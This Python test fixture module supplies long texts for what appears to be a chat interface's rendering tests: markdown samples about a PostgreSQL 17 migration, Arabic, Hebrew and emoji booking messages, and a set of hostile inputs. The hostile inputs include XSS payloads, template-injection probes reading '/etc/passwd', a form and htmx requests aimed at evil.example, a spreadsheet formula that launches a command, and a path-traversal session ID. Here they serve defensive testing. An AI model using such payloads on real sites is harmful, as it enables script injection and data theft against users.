"""Long texts that are said in the conversations: markdown, other alphabets, and attacks."""

from __future__ import annotations

MARKDOWN_PLAN = """\
## Migrating to PostgreSQL 17

Short answer: **yes, without downtime**, with logical replication. The steps, in order:

1. Check extensions: `pg_stat_statements` needs a rebuild
2. Create the new cluster beside the old one
   - same locale and encoding
   - `wal_level = logical` on the old one
3. Replicate, wait, switch over

| step | takes | blocks writes |
| :--- | ---: | :---: |
| initial copy | 3 h 20 min | no |
| catch up | 15 min | no |
| switch | 4 s | **yes** |

> Sequences are *not* replicated. Set them just before the switch.

See the [release notes](https://www.postgresql.org/docs/17/release-17.html) for what changed.
"""

MARKDOWN_CODE = """\
Here it is. `advance_sequences` reads the old values and sets the new ones a little further on:

```python
from collections.abc import Iterable

import psycopg


def advance_sequences(old: psycopg.Connection, new: psycopg.Connection, *, ahead: int = 1000) -> None:
    \"\"\"Set each sequence of `new` past where `old` can get before the switch.\"\"\"
    for name, value in old.execute("SELECT sequencename, last_value FROM pg_sequences"):
        if value is not None and "<" not in name:
            new.execute("SELECT setval(%s, %s)", (name, value + ahead))
```

Run it **once**, then:

```sh
$ psql -h new -c 'ALTER SUBSCRIPTION upgrade DISABLE' && ./switch.sh --to new
```

- [x] tested on staging
- [ ] tested on production
"""

MARKDOWN_MATH = """\
### Why 1000?

At about 40 inserts a second and a switch of 4 s, *at most* 160 values are drawn; 1000 leaves a margin.

* * *

1. `setval` is not transactional,
2. so a gap is all that can happen,
3. and gaps are harmless.
"""

ARABIC = (
    "مرحبا 👋 أريد تغيير موعد رحلتي من القاهرة إلى برلين (LH 583) يوم 12/03/2027، هل هذا ممكن؟",
    "بالطبع! وجدت ثلاث رحلات بديلة:\n\n- **LH 585** الساعة 14:20 — بدون رسوم ✅\n- **MS 735** الساعة 10:05"
    " — رسوم 45 €\n- **TK 691** الساعة 03:15 🌙\n\nأيها تفضل؟",
)
HEBREW = (
    "תודה! ואפשר גם ארוחה צמחונית 🥗 לשני הנוסעים (כולל ילדה בת 6 👧🏽)?",
    "כן, הזמנתי `VGML` לשניכם. מספר ההזמנה: **QX7-42B** — נתראה בטיסה ✈️",
)
EMOJI = ("👨‍👩‍👧‍👦 + 🧳🧳 = ?", "🧳 × 2 ✅ 🇩🇪 שלום, مرحبا, 你好, Zürich 🏔️ — z͑͗a̐l̈g̊o too")

# A script that ran tells so on the console, and that alone fails a test.
_RAN = "console.error('hostile content ran')"
HOSTILE_TEXTS = (
    f"<script>{_RAN}</script> Hello <b>bold</b> & <i>co</i> &lt;already&gt; &amp;amp;",
    f'<img src=x onerror="{_RAN}"> <svg/onload={_RAN}> <iframe srcdoc="<script>{_RAN}</script>">',
    f"[a link](javascript:{_RAN}) ![an image](javascript:{_RAN}) [data](data:text/html,<script>{_RAN}</script>)"
    " <javascript:alert(1)> ![tracker](https://tracker.example/pixel.png)",
    f"</script></textarea></title></style><script>{_RAN}</script><!-- --!> ]]> <![CDATA[",
    "{{7*7}} ${7*7} {% include '/etc/passwd' %} #{7*7} <%= 7*7 %> {{constructor.constructor('x')()}}",
    f'<a href="java\tscript:{_RAN}">tab</a> <form action=https://evil.example><button>pay</button></form>'
    " <style>*{display:none}</style> <base href=https://evil.example/> <meta http-equiv=refresh content=0>",
    '"><input autofocus onfocus=' + _RAN + "> ' onmouseover='" + _RAN + "' x='",
    f'<div hx-get="https://evil.example" hx-trigger="load" hx-on:load="{_RAN}" data-hx-get="/logout">hx</div>',
    "= cmd|' /C calc'!A0 \u202egnp.exe\u202c \u0000\u0007\u001b[31mred\u001b[0m \ufeff\u200b end",
)
HOSTILE_NAME = f"<img src=x onerror={_RAN}>{{{{7*7}}}}"
_NASTY_ID = f"../..//a b/%2e%2e?x=1&y=2#frag'\"`<script>{_RAN}</script>💥{{{{7*7}}}};\\--"
HOSTILE_SESSION_ID = (_NASTY_ID + "Ω" * 300)[:300]
